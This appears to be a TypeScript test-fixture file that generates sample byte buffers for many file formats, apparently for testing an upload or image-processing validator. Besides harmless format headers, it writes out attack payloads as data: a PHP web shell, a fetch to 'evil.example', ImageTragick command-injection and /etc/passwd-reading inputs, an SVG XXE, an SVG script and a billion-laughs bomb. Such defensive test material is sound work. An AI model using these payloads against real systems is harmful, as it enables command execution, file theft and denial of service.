import { gzipSync } from "node:zlib";
import { be32, join, latin, le16, le32, randomBytes, u8 } from "./bytes.ts";

/** Files of other kinds, each with the beginning that programs recognise it by and enough behind it to be looked at. */

const REST = randomBytes(2_000, 5);
const starting = (...start: readonly Uint8Array[]) => join(...start, REST);

/** An ISO base media file by its brand: HEIC, AVIF, MP4, MOV. */
function isoFile(brand: string): Buffer {
  return starting(be32(24), latin(`ftyp${brand}`), be32(0), latin(`${brand}mif1`), be32(8), latin("mdat"));
}

export function gif(version: "87a" | "89a"): Buffer {
  const size = join(le16(300), le16(300));
  return join(
    latin(`GIF${version}`),
    size,
    u8(0x80, 0, 0, 0, 0, 0, 200, 120, 90),
    u8(0x2c, 0, 0, 0, 0),
    size,
    u8(0, 2, 2, 0x4c, 1, 0, 0x3b),
  );
}

export const HEIF_FILES = { heic: isoFile("heic"), "heic (mif1)": isoFile("mif1"), avif: isoFile("avif") };

export const PICTURE_FILES = {
  "tiff, little-endian": starting(latin("II*\0")),
  "tiff, big-endian": starting(latin("MM\0*")),
  bmp: starting(latin("BM"), le32(2_054), le32(0), le32(54), le32(40), le32(300), le32(300)),
  ico: starting(u8(0, 0, 1, 0, 1, 0)),
  psd: starting(latin("8BPS"), u8(0, 1)),
  "jpeg xl": starting(u8(0xff, 0x0a)),
  "jpeg xl, boxed": starting(be32(12), latin("JXL "), u8(0x0d, 0x0a, 0x87, 0x0a)),
  "jpeg 2000": starting(be32(12), latin("jP  "), u8(0x0d, 0x0a, 0x87, 0x0a)),
  "jpeg 2000 codestream": starting(u8(0xff, 0x4f, 0xff, 0x51)),
  pdf: starting(latin("%PDF-1.7\n")),
  eps: starting(latin("%!PS-Adobe-3.0 EPSF-3.0\n")),
  "camera raw (Canon)": starting(latin("II*\0"), le32(16), latin("CR\x02\0")),
  "camera raw (Fuji)": starting(latin("FUJIFILMCCD-RAW ")),
};

export const FILM_FILES = {
  mp4: isoFile("isom"),
  mov: isoFile("qt  "),
  webm: starting(u8(0x1a, 0x45, 0xdf, 0xa3)),
  avi: starting(latin("RIFF"), le32(2_000), latin("AVI ")),
};

export const PROGRAM_FILES = {
  zip: starting(latin("PK\x03\x04")),
  phar: starting(latin("<?php __HALT_COMPILER(); ?>")),
  exe: starting(latin("MZ")),
  elf: starting(u8(0x7f), latin("ELF")),
  html: starting(latin("<!doctype html><script>alert(1)</script>")),
  javascript: starting(latin("fetch('https://evil.example');//")),
  php: starting(latin("<?php system($_GET['c']); ?>")),
  gzip: gzipSync(REST),
};

/** What ImageMagick's delegates would run (CVE-2016-3714). */
export const IMAGE_TRAGICK = {
  mvg: latin(
    "push graphic-context\nviewbox 0 0 640 480\nfill 'url(https://127.0.0.1/\"|touch \"pwned)'\npop graphic-context\n",
  ),
  msl: latin('<?xml version="1.0"?><image><read filename="/etc/passwd"/><write filename="pwned.png"/></image>'),
  "label by name": latin("ephemeral:/etc/passwd\nlabel:@/etc/passwd\nmsl:pwned.msl\n"),
};

/** Formats whose readers in libvips are marked as untrusted. */
export const UNTRUSTED_FILES = {
  "libvips .v": starting(u8(0xb6, 0xa6, 0xf2, 0x08)),
  ppm: starting(latin("P6\n300 300\n255\n")),
  nifti: starting(le32(348), Buffer.alloc(340), latin("n+1\0")),
  fits: starting(latin("SIMPLE  =                    T")),
  matlab: starting(latin("MATLAB 5.0 MAT-file")),
  openexr: starting(u8(0x76, 0x2f, 0x31, 0x01)),
  csv: latin("300,300,300\n".repeat(300)),
};

export const SVG_XXE = latin(
  '<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]><svg xmlns="http://www.w3.org/2000/svg"><text>&x;</text></svg>',
);
export const SVG_SCRIPT = latin('<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>');
export const SVG_LAUGHS = latin(
  `<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY l0 "ha">${Array.from({ length: 9 }, (_, i) => `<!ENTITY l${i + 1} "${`&l${i};`.repeat(10)}">`).join("")}]><svg xmlns="http://www.w3.org/2000/svg"><text>&l9;</text></svg>`,
);
